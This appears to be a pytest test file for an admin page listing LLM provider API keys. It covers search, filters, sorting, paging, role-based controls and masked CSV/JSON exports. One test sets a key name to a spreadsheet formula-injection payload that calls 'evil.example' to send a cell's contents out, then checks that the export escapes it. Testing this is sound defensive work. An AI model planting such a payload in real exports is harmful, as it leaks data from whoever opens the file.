"""The key list: search, filters, sort and pages in the query string; exports with no secret."""

from __future__ import annotations

import csv
import io
import json

from adminui.sandbox import demo
from tests.conftest import HTMX, listed_key_names

URL = "/sandbox/keys/"


def test_it_lists_every_key_with_the_active_tag_and_error_messages(viewer_client):
    response = viewer_client.get(URL)
    assert response.status_code == 200
    assert len(listed_key_names(response)) == 10
    content = response.content.decode()
    assert "Active</span>" in content
    assert "Rate limited, please try again later" in content  # the Gemini key's error
    assert "Never" in content  # a key never used


def test_searching_filtering_and_sorting_come_from_the_query_string(viewer_client):
    assert listed_key_names(viewer_client.get(URL, {"q": "openai"})) == [
        "Production OpenAI",
        "Staging OpenAI",
    ]
    assert set(listed_key_names(viewer_client.get(URL, {"state": "unknown"}))) == {
        "Azure EU deployment",
        "Together AI batch",
    }
    assert listed_key_names(viewer_client.get(URL, {"provider": "anthropic", "o": "-name"})) == [
        "Claude judges",
        "Anthropic (2024, revoked)",
    ]
    newest_first = listed_key_names(viewer_client.get(URL, {"o": "-created"}))
    assert newest_first[0] == "Together AI batch"


def test_never_used_keys_sort_last_whichever_the_direction(viewer_client):
    for order in ("last_used", "-last_used"):
        listed = listed_key_names(viewer_client.get(URL, {"o": order}))
        assert listed[-1] in {"Azure EU deployment", "Gemini experiments", "Together AI batch"}


def test_pages_have_the_size_the_user_picks(viewer_client):
    first = viewer_client.get(URL, {"per_page": 10, "o": "name"})
    assert len(listed_key_names(first)) == 10
    response = viewer_client.get(URL, {"per_page": 10, "o": "name", "page": 2})
    assert "1–10 of 10" in response.content.decode()  # only one page: clamped, not an error
    small = viewer_client.get(URL, {"per_page": 7})
    assert len(listed_key_names(small)) == 10, "unsupported page sizes fall back to the default"


def test_an_unknown_sort_column_falls_back_to_the_default(viewer_client):
    assert viewer_client.get(URL, {"o": "api_key"}).status_code == 200


def test_htmx_gets_only_the_key_region(viewer_client):
    response = viewer_client.get(URL, {"q": "claude"}, headers=HTMX)
    content = response.content.decode()
    assert content.lstrip().startswith('<div id="key-region"')
    assert "<html" not in content
    assert "Claude judges" in content and "Staging OpenAI" not in content


def test_viewers_see_no_write_controls(viewer_client, editor_client):
    assert b"Add key" not in viewer_client.get(URL).content
    assert b"Set as active" not in viewer_client.get(URL).content
    assert b"Add key" in editor_client.get(URL).content


def test_old_keys_get_a_rotation_reminder(viewer_client, settings):
    settings.KEY_ROTATION_DAYS = 90
    assert b"older than 90 days" in viewer_client.get(URL).content
    settings.KEY_ROTATION_DAYS = 5000
    assert b"older than 5000 days" not in viewer_client.get(URL).content


def test_rotation_reminders_ask_viewers_to_ask_an_editor(viewer_client, editor_client, settings):
    settings.KEY_ROTATION_DAYS = 90
    detail = f"{URL}{demo.KEY_PRODUCTION_OPENAI}/"
    for page in (URL, detail):
        seen_by_viewer = viewer_client.get(page).content.decode()
        reminder = seen_by_viewer.split("older than 90 days")[1].split("</p>")[0]
        assert "n Editor to rotate" in reminder
        assert "rotating" not in reminder
        assert "ask an Editor to rotate" not in editor_client.get(page).content.decode()


def test_an_empty_project_explains_what_keys_are_for(editor_client, sandbox):
    sandbox.state.provider_keys.clear()
    response = editor_client.get(URL)
    assert b"No LLM provider keys yet" in response.content
    assert b"Add your first key" in response.content


def test_the_csv_export_has_metadata_only_and_respects_the_filters(viewer_client):
    response = viewer_client.get(URL + "export.csv", {"provider": "openai"})
    assert response["Content-Disposition"].endswith('provider-keys.csv"')
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["name"] for row in rows} == {"Production OpenAI", "Staging OpenAI"}
    production = next(row for row in rows if row["name"] == "Production OpenAI")
    assert production["active"] == "True"
    assert "..." in production["api_key_masked"]
    assert "api_key" not in rows[0] or rows[0].get("api_key") is None


def test_the_json_export_lists_the_same_keys(viewer_client):
    data = json.loads(viewer_client.get(URL + "export.json", {"state": "invalid"}).content)
    assert [key["id"] for key in data["keys"]] == [demo.KEY_OLD_ANTHROPIC]
    assert data["keys"][0]["error_message"] == "Invalid API key"


def test_exports_never_hand_a_spreadsheet_a_formula(viewer_client, sandbox):
    key = next(iter(sandbox.state.provider_keys.values()))
    key.name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    content = viewer_client.get(URL + "export.csv").content.decode()
    assert "'=HYPERLINK(" in content
    assert "\n=HYPERLINK(" not in content and ",=HYPERLINK(" not in content


def test_the_export_links_follow_filters_applied_with_htmx(viewer_client):
    response = viewer_client.get(URL, {"q": "claude"}, headers=HTMX)
    assert 'href="/sandbox/keys/export.csv?q=claude"' in response.content.decode()


def test_the_export_survives_a_failing_config_call(viewer_client, sandbox):
    sandbox.faults.add("evaluation_config", status=500)
    response = viewer_client.get(URL + "export.json")
    assert response.status_code == 200
    assert not any(key["active"] for key in json.loads(response.content)["keys"])


def test_the_filters_keep_the_sort_the_list_is_in(viewer_client):
    for _ in range(2):  # drawn, then from the cache
        page = viewer_client.get(URL, {"o": "-name"}).content.decode()
        assert '<input type="hidden" name="o" value="-name">' in page
